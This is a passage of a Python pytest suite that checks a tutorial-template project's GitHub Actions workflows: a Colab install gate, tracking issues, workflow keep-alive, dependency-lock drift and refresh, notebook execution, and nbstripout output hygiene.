    done = [run_step(download, repo, {"BACKEND_INFO": snapshot.as_uri()}, env)]
    for name in (CHECK_COLAB, REPORT_COLAB):
        if done[-1].returncode == 0:
            done.append(run_step(step(repo, "colab.yml", "gate", name), repo, {}, env))
    return env, done


def test_the_colab_gate_reports_the_install_cell_on_the_downloaded_runtime(repo, tmp_path):
    """Weekly and by hand, nothing written: the runtime's two files downloaded under their
    published names, `tutorkit check --colab` on them, and TK112's report in the job summary
    (the snapshot of 2026-08-14, Python 3.12: the starter installs; Colab keeps its own
    versions). A list that is not there fails the download; one tutorkit cannot read fails the
    check, with its one sentence."""
    colab = workflow(repo, "colab.yml")
    assert set(colab["on"]) == {"schedule", "workflow_dispatch"}
    assert colab["on"]["schedule"] == [{"cron": "53 5 * * 2"}]  # Tuesdays
    assert colab["jobs"]["gate"]["permissions"] == {"contents": "read"}
    env, done = colab_gate(repo, COLAB_SNAPSHOTS / "2026-08-14-python3.12", tmp_path)
    assert [d.returncode for d in done] == [0, 0, 0], done[-1].stdout + done[-1].stderr
    listed = sorted(p.name for p in (Path(env["RUNNER_TEMP"]) / "colab").iterdir())
    assert listed == ["os-info.txt", "pip-freeze.txt"]
    summary = Path(env["GITHUB_STEP_SUMMARY"]).read_text()
    assert summary.startswith("### The install cell on Colab: warn\n\n")
    assert "- Colab keeps its torch 2.11.0+cpu (CI tests the lock's 2.13.0+cpu)\n" in summary
    assert "- the minimal install cell: %pip install --quiet <this repo>\n" in summary
    from tutorkit.checks.colab import ColabInstalls

    assert summary.endswith(
        f"\n\n{ColabInstalls.fix} (https://tutorkit.github.io/tutorkit/checks/#tk112)\n"
    )
    assert outputs(env)["failed"] == ""
    # A list that is not published: curl --fail ends the step.
    _, done = colab_gate(repo, tmp_path / "nothing-here", tmp_path / "missing")
    assert len(done) == 1 and done[0].returncode != 0
    # Files that are not Colab's list: tutorkit says why, and the check step fails.
    lists = tmp_path / "not-a-list"
    lists.mkdir()
    for name in ("pip-freeze.txt", "os-info.txt"):
        (lists / name).write_text("<html>rate limited</html>\n")
    _, done = colab_gate(repo, lists, tmp_path / "unreadable")
    assert [d.returncode for d in done] == [0, 1]
    assert "names no Python or its pip-freeze.txt no package" in done[1].stderr


def test_the_colab_gate_fails_where_colabs_python_cannot_install_the_package(repo, tmp_path):
    """A repo that allows Python below 3.13 only, against the runtime of 2026-08-19 (Python
    3.13): the report step fails the job with the reason, and hands it to the tracking issue."""
    pyproject = repo / "pyproject.toml"
    text = pyproject.read_text()
    pyproject.write_text(text.replace('requires-python = ">=3.11"', 'requires-python = "<3.13"'))
    env, done = colab_gate(repo, COLAB_SNAPSHOTS / "2026-08-19-python3.13", tmp_path)
    assert [d.returncode for d in done] == [0, 0, 1]
    reason = "cannot install on Colab's Python 3.13.15: pyproject.toml requires Python <3.13"
    assert f"::error::{reason}" in done[2].stderr
    assert outputs(env)["failed"].splitlines()[0] == reason
    summary = Path(env["GITHUB_STEP_SUMMARY"]).read_text()
    assert summary.startswith(f"### The install cell on Colab: fail\n\n- {reason}\n")


def test_colab_gate_failures_go_to_their_own_issue(repo, tmp_path):
    """The gate keeps its own issue (label colab-install), beside the notebooks one: the
    reason the install cell fails is in it; a passing run closes it."""
    job = workflow(repo, "colab.yml")["jobs"]["track"]
    assert job["needs"] == ["gate"] and job["permissions"] == {
        "contents": "read",
        "issues": "write",
    }
    assert job["concurrency"]["group"] == "tracking-issue-colab-install"
    gh = beside_the_notebooks_issue(tmp_path)
    gate = tracker(repo, gh, tmp_path, "colab.yml")
    reason = "cannot install on Colab's Python 3.13.15: pyproject.toml requires Python <3.13"
    failing = json.dumps({"gate": {"result": "failure", "outputs": {"failed": reason}}})
    calls = gate(failing, "schedule", number=9)
    assert calls[1][:4] == ["label", "create", "colab-install", "--color"]
    assert calls[2][:6] == [
        *("issue", "create", "--title"),
        "The notebook's install cell does not work on Colab",
        *("--label", "colab-install"),
    ]
    notebooks_issue, colab_issue = gh.state["issues"]
    assert (notebooks_issue["state"], notebooks_issue["comments"]) == ("open", [])
    assert run_url(9) in colab_issue["body"]
    assert f"- `gate`:\n  - `{reason}`\n" in colab_issue["body"]
    calls = gate(json.dumps({"gate": {"result": "success", "outputs": {"failed": ""}}}))
    assert calls[1][:3] == ["issue", "close", "2"]


# --- keep-alive ---


def test_keep_alive_enables_each_workflow_not_disabled_by_hand(repo, tmp_path):
    """PUT .../enable for every workflow file of the repo that is active or was disabled for
    inactivity; a workflow disabled by hand, and GitHub's own dynamic ones, are left alone."""
    job = workflow(repo, "notebooks.yml")["jobs"]["keep-alive"]
    assert job["permissions"] == {"actions": "write"}
    assert job["if"] == "github.event_name == 'schedule'"
    listed = [
        workflow_entry(11, "notebooks.yml", "active", REPO),
        workflow_entry(12, "template-update.yml", "disabled_inactivity", REPO),
        workflow_entry(13, "dependency-drift.yml", "disabled_manually", REPO),
        workflow_entry(14, "pages", "active", REPO, path="dynamic/pages/pages-build-deployment"),
    ]
    gh = GhStandIn(tmp_path, REPO, workflows=listed)
    (found,) = job["steps"]
    assert found["shell"] == "python"
    done = run_step(
        found, repo, {"GH_TOKEN": "ghs_t", "GH_REPO": REPO}, gh.env(actions_env(tmp_path))
    )
    assert done.returncode == 0, done.stderr
    assert gh.calls == [
        ["api", f"repos/{REPO}/actions/workflows?per_page=100"],
        ["api", "--method", "PUT", f"repos/{REPO}/actions/workflows/11/enable"],
        ["api", "--method", "PUT", f"repos/{REPO}/actions/workflows/12/enable"],
    ]
    states = {w["id"]: w["state"] for w in gh.state["workflows"]}
    assert states == {11: "active", 12: "active", 13: "disabled_manually", 14: "active"}
    assert "left .github/workflows/dependency-drift.yml as it is (disabled_manually)" in done.stdout


def test_keep_alive_failure_fails_its_job_not_the_badge(repo, tmp_path):
    """An API error fails the keep-alive step (seen in the run); the job is continue-on-error."""
    jobs = workflow(repo, "notebooks.yml")["jobs"]
    assert (
        jobs["keep-alive"]["continue-on-error"] is True
        and jobs["track"]["continue-on-error"] is True
    )
    gh = GhStandIn(tmp_path, "someone/else")  # answers 404 for this repo's endpoints
    (found,) = jobs["keep-alive"]["steps"]
    done = run_step(
        found, repo, {"GH_TOKEN": "ghs_t", "GH_REPO": REPO}, gh.env(actions_env(tmp_path))
    )
    assert done.returncode != 0 and "Not Found (HTTP 404)" in done.stderr


# --- test jobs: failing tests and notebooks named; the canary's drift ---


def test_the_lock_step_fails_naming_each_package_that_differs(variants):
    """The step as GitHub runs it, in this test's own environment: deliberately not the lock
    (no torch, and tutorkit's own tools). The passing case: tests/template/test_lock.py, in the
    environment installed from the lock."""
    rendered = variants["pytorch", "3.11"]
    found = step(rendered, "notebooks.yml", "pip", "Fail when the environment is not the lock")
    assert found["if"] == "hashFiles('requirements.lock') != ''"
    in_conda = step(rendered, "notebooks.yml", "conda", "Fail when the environment is not the lock")
    assert (in_conda["if"], in_conda["run"]) == (found["if"], found["run"])  # the same step
    done = run_step(found, rendered, {})
    assert done.returncode == 1
    assert "torch: the lock pins 2.13.0+cpu, and it is not installed" in done.stdout
    assert "copier: " in done.stdout and "the lock does not name it" in done.stdout
    assert "install it with `pip install --require-hashes -r requirements.lock`" in done.stdout


@pytest.mark.slow  # executes notebooks
def test_failing_tests_and_notebooks_are_named(variants, tmp_path):
    """The test jobs' pytest command (with the notebook runner, as the generated pyproject.toml
    loads it) on a tiny repo with a failing test and a failing notebook; then the step that names
    them. The step summary lists the notebook, and the executed notebook lies where the upload
    step takes it from."""
    rendered = variants[VARIANTS[0]]
    run_tests = {
        (name, job): step(rendered, name, job, RUN_TESTS)["run"]
        for name, job in (
            ("notebooks.yml", "pip"),
            ("notebooks.yml", "conda"),
            ("dependency-drift.yml", "latest"),
        )
    }
    assert len(set(run_tests.values())) == 1
    name_them = {step(rendered, name, job, NAME_FAILING)["run"] for name, job in run_tests}
    assert len(name_them) == 1
    project = tmp_path / "tiny"
    shutil.copytree(rendered / ".github", project / ".github")
    (project / "tests").mkdir(parents=True)
    (project / "notebooks").mkdir()
    shutil.copy2(rendered / "pyproject.toml", project / "pyproject.toml")  # pytest's settings
    (project / "tests" / "test_a.py").write_text(
        "def test_ok():\n    pass\n\n\ndef test_bad():\n    assert False\n"
    )
    notebook = nbformat.v4.new_notebook(cells=[nbformat.v4.new_code_cell("assert 1 == 2", id="0")])
    nbformat.write(notebook, project / "notebooks" / "a failing one.ipynb")
    env = actions_env(tmp_path)
    done = run_step(
        step(rendered, "notebooks.yml", "pip", RUN_TESTS),
        project,
        {"NOTEBOOK_SECRETS": ""},  # as on a pull request from a fork
        env,
    )
    assert done.returncode == 1, done.stdout + done.stderr
    assert (
        "| `notebooks/a failing one.ipynb` | failed | cell In [1] `assert 1 == 2`: AssertionError"
        in Path(env["GITHUB_STEP_SUMMARY"]).read_text()
    )
    upload = step(rendered, "notebooks.yml", "pip", "Upload the executed notebooks")["with"]["path"]
    uploaded = Path(upload.replace("${{ runner.temp }}", env["RUNNER_TEMP"]))
    assert (uploaded / "notebooks" / "a failing one.ipynb").is_file()
    done = run_step(
        step(rendered, "notebooks.yml", "pip", NAME_FAILING),
        project,
        {},
        env,
    )
    assert done.returncode == 0, done.stderr
    assert outputs(env)["failed"] == "tests/test_a.py::test_bad\nnotebooks/a failing one.ipynb"
    summary = Path(env["GITHUB_STEP_SUMMARY"]).read_text()
    assert (
        "### Failing tests and notebooks" in summary
        and "- `notebooks/a failing one.ipynb`" in summary
    )
    # pytest that crashed before writing its report: nothing named, the step still passes.
    env = actions_env(tmp_path / "no-report")
    done = run_step(
        step(rendered, "notebooks.yml", "pip", NAME_FAILING),
        project,
        {},
        env,
    )
    assert done.returncode == 0 and outputs(env)["failed"] == ""


def test_canary_names_the_releases_that_differ_from_the_pins(variants, tmp_path):
    """After installing the newest releases, the canary lists each pin of requirements.lock
    that differs (a transitive dependency too); a repo without a lock: requirements.txt's."""
    from importlib.metadata import version

    found = step(variants[VARIANTS[0]], "dependency-drift.yml", "latest", "Compare with the pins")
    repo = tmp_path / "repo"
    (repo / ".github").mkdir(parents=True)
    shutil.copytree(variants[VARIANTS[0]] / ".github" / "scripts", repo / ".github" / "scripts")
    (repo / "requirements.txt").write_text(
        "# pinned\n--extra-index-url https://download.pytorch.org/whl/cpu\n"
        "pytest==0.0.1\n"
        f"nbformat=={version('nbformat')}\n"
        f"PyYAML=={version('pyyaml')}+cpu\n"  # a local label (+cpu) is the same release
        'tensorflow-not-here==9.9.9; sys_platform == "darwin"\n'
        "-e .\n"
    )
    env = actions_env(tmp_path)
    done = run_step(found, repo, {}, env)
    assert done.returncode == 0, done.stderr
    assert outputs(env)["drift"] == f"- `pytest`: pinned 0.0.1, newest {version('pytest')}"
    hashes = f" \\\n    --hash=sha256:{'0' * 64}\n"
    (repo / "requirements.lock").write_text(
        "--extra-index-url https://download.pytorch.org/whl/cpu\n"
        "# tutorkit lock --date 2026-12-06\n"
        f"jinja2==0.0.2{hashes}nbformat=={version('nbformat')}{hashes}"
    )
    env = actions_env(tmp_path / "with-lock")
    done = run_step(found, repo, {}, env)
    assert done.returncode == 0, done.stderr
    assert outputs(env)["drift"] == f"- `jinja2`: pinned 0.0.2, newest {version('jinja2')}"


@pytest.mark.slow  # uv against the package index
def test_the_canary_resolves_the_lock_as_of_today(variants, tmp_path):
    """The step as GitHub runs it, with this checkout's tutorkit on PATH, in a TensorFlow repo
    (no PyTorch CPU index to reach): requirements.lock then records today's date."""
    import datetime

    found = step(variants[VARIANTS[0]], "dependency-drift.yml", "refresh", RESOLVE_TODAY)
    assert found["if"] == "hashFiles('requirements.lock') != ''"
    repo = published(variants["tensorflow", "3.11"], tmp_path)  # a checkout: a git repo
    done = run_step(found, repo, {})
    assert done.returncode == 0, done.stdout + done.stderr
    today = datetime.datetime.now(datetime.UTC).date().isoformat()
    assert f"#    tutorkit lock --date {today}\n" in (repo / "requirements.lock").read_text()
    assert f"(tutorkit lock, as of {today})" in (repo / "constraints.txt").read_text()
    # ... and the pull request carries both files the step wrote.
    jobs = load(repo / ".github" / "workflows" / "dependency-drift.yml")["jobs"]
    (pr,) = [s for s in jobs["refresh"]["steps"] if s.get("id") == "pr"]
    assert pr["with"]["add-paths"].split() == ["requirements.lock", "constraints.txt"]
    assert git(repo, "status", "--porcelain").split() == [
        "M",
        "constraints.txt",
        "M",
        "requirements.lock",
    ]


def test_the_canary_starts_the_notebooks_on_its_pull_request_without_a_token(variants, tmp_path):
    """With GITHUB_TOKEN (no App, no TEMPLATE_UPDATE_TOKEN) the refresh pull request gets no CI
    of its own: the step sets a pending status on its head and dispatches the notebooks
    workflow on its branch (the recording `gh` stand-in); with a token it does nothing."""
    found = step(variants[VARIANTS[0]], "dependency-drift.yml", "refresh", NOTEBOOKS_ON_PR)
    for operation in ("created", "updated"):
        assert f"steps.pr.outputs.pull-request-operation == '{operation}'" in found["if"]
    head = "a" * 40
    for own_token, calls in (("true", 0), ("false", 2)):
        gh = GhStandIn(
            tmp_path / own_token,
            REPO,
            workflows=[workflow_entry(1, "notebooks.yml", "active", REPO)],
        )
        env = gh.env(actions_env(tmp_path / own_token))
        step_env = {
            "OWN_TOKEN": own_token,
            **{"GH_TOKEN": "ghs_t", "GH_REPO": REPO, "BRANCH": "lock-refresh", "HEAD_SHA": head},
        }
        done = run_step(found, tmp_path, step_env, env)
        assert done.returncode == 0, done.stderr
        assert len(gh.calls) == calls
    assert gh.calls[0][:5] == ["api", "--method", "POST", f"repos/{REPO}/statuses/{head}", "-f"]
    assert gh.calls[1] == ["workflow", "run", "notebooks.yml", "--ref", "lock-refresh"]


def test_canary_installs_the_newest_releases_unpinned(variants):
    """What a fresh `pip install` of the package gets: the package and its dev extra (the test
    tools requirements.txt pins, by name only), --upgrade; CPU wheels where the pinned install
    uses them. (Resolving the newest torch or TensorFlow needs PyPI and PyTorch's index:
    GitHub's runner does that; here the command is checked against the repo's files.)"""
    for framework in ("pytorch", "tensorflow"):
        rendered = variants[framework, "3.11"]
        install = step(rendered, "dependency-drift.yml", "latest", NEWEST)["run"]
        words = install.split()
        assert words[:5] == ["python", "-m", "pip", "install", "--upgrade"]
        assert words[words.index("-e") + 1] == '".[dev]"' and "-r" not in words
        assert "==" not in install
        requirements = (rendered / "requirements.txt").read_text()
        tools = requirements.split("# Tests, notebook execution and pre-commit")[1]
        pinned = [line.split("==")[0] for line in tools.split("\n\n")[0].splitlines()[1:]]
        pyproject = tomllib.loads((rendered / "pyproject.toml").read_text())
        assert pinned and pyproject["project"]["optional-dependencies"]["dev"] == pinned
        index = [line for line in requirements.splitlines() if line.startswith("--extra-index-url")]
        assert (" ".join(index) in install) if index else "--extra-index-url" not in install
        assert bool(index) == (framework == "pytorch")
        canary = workflow(rendered, "dependency-drift.yml")
        assert set(canary["on"]) == {"schedule", "workflow_dispatch"}
        assert canary["env"]["TUTORIAL_PROFILE"] == "smoke"


# --- notebook hygiene ---


@pytest.mark.slow  # pre-commit in a subprocess
def test_hygiene_fails_on_a_notebook_with_outputs(variants, tmp_path):
    """The hygiene job's command, `pre-commit run nbstripout --all-files`, with the repo's own
    nbstripout hook arguments: a clean repo passes, a committed notebook with outputs fails.
    (The hook's repository is on GitHub: here the same hook runs as a local hook with the
    same arguments, using nbstripout as installed from PyPI at the config's release.)"""
    found = step(
        variants[VARIANTS[0]],
        "notebooks.yml",
        "hygiene",
        "Fail when a notebook was committed with outputs",
    )
    assert found["run"] == "pre-commit run nbstripout --all-files --show-diff-on-failure"
    repo = published(variants[VARIANTS[0]], tmp_path)
    config_path = repo / ".pre-commit-config.yaml"
    config = yaml.safe_load(config_path.read_text())
    (entry,) = [e for e in config["repos"] if e["repo"] == "https://github.com/kynan/nbstripout"]
    (hook,) = entry["hooks"]
    from importlib.metadata import version

    assert hook["id"] == "nbstripout" and entry["rev"] == version("nbstripout")
    # Only that hook (pre-commit would fetch every hook repo of the config from GitHub).
    local = {"name": "nbstripout", "entry": "nbstripout", "language": "system"}
    local["types"] = ["jupyter"]
    config["repos"] = [{"repo": "local", "hooks": [{**hook, **local}]}]
    config_path.write_text(yaml.safe_dump(config, sort_keys=False))
    git(repo, "commit", "--quiet", "-am", "The nbstripout hook, from this machine")
    env = actions_env(tmp_path, PRE_COMMIT_HOME=str(tmp_path / "pre-commit-home"))
    done = run_step(found, repo, {}, env)
    assert done.returncode == 0, done.stdout + done.stderr
    notebook_path = next((repo / "notebooks").glob("*.ipynb"))
    notebook = nbformat.read(notebook_path, as_version=4)
    cell = next(c for c in notebook.cells if c.cell_type == "code")
    cell.outputs = [nbformat.v4.new_output("stream", name="stdout", text="hello\n")]
    cell.execution_count = 1
    nbformat.write(notebook, notebook_path)
    git(repo, "commit", "--quiet", "-am", "Oops, outputs")
    done = run_step(found, repo, {}, env)
    assert done.returncode == 1, done.stdout + done.stderr
    assert "files were modified by this hook" in done.stdout
    assert notebook_path.relative_to(repo).as_posix() in done.stdout


@pytest.mark.parametrize("outcome", ["refused", "failed"])
def test_a_repo_the_update_cannot_take_ends_the_job_with_the_reason(variants, tmp_path, outcome):
    """`tutorkit update` refused or failed this repo: the report step fails, saying why."""
    repo = published(variants[VARIANTS[0]], tmp_path)
    env = actions_env(tmp_path)
    (Path(env["RUNNER_TEMP"]) / "tutorkit-update.json").write_text(
        f'[{{"result": "{outcome}", "reason": "README.md is a symbolic link here", "files": []}}]'
    )
    report = step(repo, "template-update.yml", "update", "Report the update")
    done = run_step(report, repo, {"OWN_TOKEN": "false"}, env)
    assert done.returncode == 1
    assert f"::error::tutorkit update {outcome} this repo: README.md is a symbolic link" in (
        done.stderr
    )


@pytest.mark.slow  # executes notebooks
def test_an_adopted_repo_runs_every_notebook_in_any_folder(render, tmp_path):
    """The infrastructure layout's run step, for real: notebooks in nested folders with spaces
    in their names are found and executed by the runner .github/scripts/notebooks.py (with
    this suite's Python, which has the pinned pytest, papermill and ipykernel); a failing one
    fails the step, by name."""
    import nbformat

    repo = render(tmp_path / "adopted", layout="infrastructure")
    for path, code in (
        ("Lecture 1 - Intro.ipynb", "print(1 + 1)"),
        ("week 2/notebooks/Part A (CNNs).ipynb", "x = [i * i for i in range(3)]"),
    ):
        nb = nbformat.v4.new_notebook()
        nb.cells = [nbformat.v4.new_code_cell(code)]
        (repo / path).parent.mkdir(parents=True, exist_ok=True)
        nbformat.write(nb, repo / path)
    found = step(repo, "notebooks.yml", "pip", "Run the tests and execute every notebook")
    env = actions_env(tmp_path)
    done = run_step(found, repo, {"NOTEBOOK_SECRETS": ""}, env)
    assert done.returncode == 0, done.stdout + done.stderr
    assert "2 passed" in done.stdout
    broken = nbformat.v4.new_notebook()
    broken.cells = [nbformat.v4.new_code_cell("1 / 0")]
    nbformat.write(broken, repo / "week 2" / "Broken one.ipynb")
    done = run_step(found, repo, {"NOTEBOOK_SECRETS": ""}, env)
    assert done.returncode == 1
    assert "Broken one.ipynb" in done.stdout and "1 failed, 2 passed" in done.stdout
